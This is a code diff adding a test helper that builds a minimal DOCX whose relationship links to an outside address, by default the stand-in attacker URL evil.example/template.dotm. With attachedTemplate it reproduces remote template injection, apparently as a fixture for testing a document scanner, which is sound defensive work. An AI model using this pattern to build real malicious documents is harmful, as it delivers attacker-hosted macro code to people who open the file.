@@ -211,3 +211,20 @@ def odt_with_macros(folder: str = "Basic") -> bytes:
                  ("content.xml", b"<office:document-content/>"), library,
                  ("META-INF/manifest.xml", b"<manifest/>")], stored_first=True)
 
+
+def docx_with_an_external(kind: str, target: str = "https://evil.example/template.dotm") -> bytes:
+    """A DOCX whose document links a relationship of ``kind`` (attachedTemplate, oleObject, hyperlink…)
+    to an outside address, with TargetMode="External" as Word writes it."""
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{office}/{kind}" Target="{target}" TargetMode="External"/>'
+            "</Relationships>").encode()
+    return _zip([
+        ("[Content_Types].xml", content_types(None, {"/word/document.xml": DOCX_MAIN})),
+        ("_rels/.rels", relationships((f"{office}/officeDocument", "word/document.xml"))),
+        ("word/document.xml", b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
+                              b"<w:body><w:p/></w:body></w:document>"),
+        ("word/_rels/settings.xml.rels" if kind == "attachedTemplate" else "word/_rels/document.xml.rels", rels),
+    ])
+
